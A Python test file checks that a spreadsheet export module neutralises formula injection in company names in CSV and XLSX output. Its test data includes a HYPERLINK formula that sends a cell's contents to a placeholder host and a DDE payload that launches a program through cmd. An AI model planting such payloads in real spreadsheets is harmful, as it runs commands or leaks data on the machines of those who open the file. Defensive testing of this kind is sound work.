"""A company named =HYPERLINK(...), +86…, @SUM or with a tab: text everywhere, always as typed."""

import csv
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook

from gis_service.sheets.writer import Style, TableColumn, write_csv, write_table
from tests.workbooks import read

NAMES = [
    '=HYPERLINK("http://example.invalid/?x="&B2,"点击")',
    "+86-28-0000",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "'=1",
    "正常企业",
]
COLUMNS = [TableColumn("企业名称"), TableColumn("税收（万元）", Style.NUMBER)]
ROWS = [[name, -number] for number, name in enumerate(NAMES)]


def test_names_are_read_as_typed(tmp_path: Path) -> None:
    path = tmp_path / "names.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([["企业名称", "税收（万元）"], ["=1+1", 5], ["\t=1+1", -5]])

    reading = read(path, year=2024)

    assert [row.values["name"] for row in reading.good] == ["=1+1", "\t=1+1"]
    assert [row.values["tax"] for row in reading.good] == [5_000_000, -5_000_000]


def test_in_xlsx_they_are_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    write_table(tmp_path / "out.xlsx", "", COLUMNS, ROWS)

    sheet = load_workbook(tmp_path / "out.xlsx").active
    cells = [sheet.cell(row, 1) for row in range(2, len(NAMES) + 2)]

    assert [cell.data_type for cell in cells] == ["s"] * len(NAMES)
    assert [cell.value for cell in cells] == NAMES
    assert [sheet.cell(row, 2).value for row in range(2, 5)] == [0, -1, -2]


def test_in_csv_no_cell_begins_with_a_formula_sign(tmp_path: Path) -> None:
    stream = BytesIO()
    write_csv(stream, COLUMNS, ROWS)
    text = stream.getvalue().decode("utf-8-sig")

    cells = [row[0] for row in csv.reader(text.splitlines()) if row]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r＝"]
    assert [row[1] for row in csv.reader(text.splitlines())][1:4] == ["0", "-1", "-2"]


def test_a_re_import_gives_the_names_back(tmp_path: Path) -> None:
    write_csv(tmp_path / "out.csv", COLUMNS, ROWS)
    write_table(tmp_path / "out.xlsx", "", COLUMNS, ROWS)

    for name in ("out.csv", "out.xlsx"):
        reading = read(tmp_path / name, year=2024)
        assert [row.values["name"] for row in reading.rows] == NAMES
